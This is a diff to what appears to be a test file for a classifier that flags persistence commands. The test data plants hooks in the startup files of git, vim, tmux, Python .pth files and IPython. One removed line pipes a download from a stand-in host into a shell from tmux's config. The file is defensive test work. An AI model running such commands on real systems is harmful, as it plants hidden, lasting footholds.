@@ -147,7 +147,8 @@ describe("round 2: start-up files of every shell, PAM, accounts", () => {
     ["git config --system http.sslCAInfo /tmp/ca.pem", "persistence-git-redirect"],
     ["git config --global init.templateDir ~/.git-template", "persistence-git-hooks"],
     ["echo 'set shell=/tmp/x' >> ~/.vimrc", "persistence-tool-startup"],
-    ["echo \"run-shell 'curl -s https://x.example | sh'\" >> ~/.tmux.conf", "persistence-tool-startup"],
+    // A tmux config's run-shell is judged by what it runs (a download piped to a shell is blocked); choosing the shell every pane runs asks.
+    ["echo 'set -g default-shell /tmp/x' >> ~/.tmux.conf", "persistence-tool-startup"],
     // A .pth copied in: its text is not seen, so its path decides (one written with known text is judged by what it runs).
     ["cp /tmp/hook.pth .venv/lib/python3.12/site-packages/zz.pth", "persistence-tool-startup"],
     ["cp startup.py ~/.ipython/profile_default/startup/00-x.py", "persistence-tool-startup"],
